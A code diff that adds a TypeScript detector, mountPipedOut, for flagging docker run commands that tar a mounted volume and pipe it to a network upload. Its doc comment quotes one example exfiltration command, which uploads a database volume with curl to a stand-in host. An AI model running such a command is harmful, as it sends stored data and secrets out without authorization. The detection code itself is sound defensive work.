@@ -5,7 +5,8 @@
  * container paths that hold data (data directories, /etc, home folders, secrets, dumps and keys)
  * are remembered; build output copied out (`/app/dist`, `/app/coverage`) and uploaded is publishing.
  */
-import type { ShellWord } from './shell-words.js';
+import { passesOn, stdinSender } from './pipes.js';
+import { commandsOf, type ShellWord } from './shell-words.js';
 
 /** Container paths that hold a service's data, configuration or secrets. */
 const DATA_PATH =
@@ -69,6 +70,35 @@ export function sendsCopied(
     const what = args.map((a) => (a === archive ? undefined : held(a, copied))).find((w) => w !== undefined);
     if (what === undefined || (archive === undefined && !args.includes('-'))) return undefined;
     return archive === undefined || archive === '-' ? { what } : { what, archive: norm(archive) };
+  }
+  return undefined;
+}
+
+/**
+ * A run's own command archiving a mounted volume to the network (R10: `docker run -v pgdata:/data
+ * alpine sh -c 'tar czf - /data | curl -T - https://dump.example.net/pg.tgz'`): `targets` are the
+ * mount targets; returns what is sent and where, or undefined. An archive written to another mount
+ * (`tar czf /backup/pg.tgz /data`, the documented volume backup) or piped to ssh on the own network stays.
+ */
+export function mountPipedOut(
+  code: string,
+  targets: readonly string[],
+): { what: string; to: string } | undefined {
+  if (targets.length === 0 || !/\|/.test(code)) return undefined;
+  const held = new Map(targets.map((t) => [norm(t), `data of the volume mounted at ${t}`]));
+  let piped: string | undefined;
+  let prevEnd = 0;
+  for (const cmd of commandsOf(code)) {
+    if (cmd.length === 0) continue;
+    const joined = /^\|&?$/.test(code.slice(prevEnd, cmd[0]!.start).trim());
+    prevEnd = cmd.at(-1)!.end;
+    if (piped !== undefined && joined) {
+      const to = stdinSender(cmd);
+      if (to !== undefined) return { what: piped, to };
+      if (passesOn(cmd)) continue;
+    }
+    const sent = sendsCopied(cmd, held);
+    piped = sent !== undefined && sent.to === undefined && sent.archive === undefined ? sent.what : undefined;
   }
   return undefined;
 }
